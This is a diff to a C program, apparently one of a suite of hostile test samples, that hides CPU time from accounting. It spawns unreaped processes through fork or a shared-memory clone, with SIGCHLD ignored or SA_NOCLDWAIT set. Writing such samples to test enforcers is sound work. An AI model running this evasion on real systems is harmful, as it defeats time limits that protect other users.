@@ -1,7 +1,7 @@
 /* hides-time TOTAL/EACH/HOW: computes for TOTAL milliseconds before its first answer, in processes of EACH milliseconds that
-   no process waits for, because SIGCHLD is ignored (HOW: i) or its children are not kept (k, SA_NOCLDWAIT). Meanwhile its
-   first process could run, at the lowest priority on the same CPU, and waits for it. The attack has succeeded when it is
-   asked again. */
+   no process waits for, because SIGCHLD is ignored (HOW: i; m: they share their parent's memory, and fault no page) or its
+   children are not kept (k, SA_NOCLDWAIT). Meanwhile its first process could run, at the lowest priority on the same CPU,
+   and waits for it. The attack has succeeded when it is asked again. */
 #include "hostile.h"
 #include <sched.h>
 
@@ -13,13 +13,22 @@ static void compute(long ms)
     while (used.tv_sec * 1000 + used.tv_nsec / 1000000 < ms);
 }
 
+static long each;
+
+static int computes(void *unused)
+{
+    (void)unused;
+    compute(each);
+    return 0;
+}
+
 static int attack(int argc, char **argv)
 {
-    long total = 0, each = 0;
+    long total = 0;
     char how = 0;
     if (argc < 2 || sscanf(argv[1], "%ld/%ld/%c", &total, &each, &how) != 3)
         return -1;
-    struct sigaction unkept = {.sa_handler = how == 'i' ? SIG_IGN : SIG_DFL, .sa_flags = how == 'i' ? 0 : SA_NOCLDWAIT};
+    struct sigaction unkept = {.sa_handler = how == 'k' ? SIG_DFL : SIG_IGN, .sa_flags = how == 'k' ? SA_NOCLDWAIT : 0};
     sigaction(SIGCHLD, &unkept, NULL);
     cpu_set_t allowed, last;
     sched_getaffinity(0, sizeof allowed, &allowed);
@@ -36,7 +45,10 @@ static int attack(int argc, char **argv)
     if (fork() == 0) {
         close(done[0]);
         for (long used = 0; used < total; used += each) {
-            if (fork() == 0) {
+            static char stack[1 << 16];
+            if (how == 'm')
+                clone(computes, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
+            else if (fork() == 0) {
                 close(done[1]);
                 compute(each);
                 _exit(0);
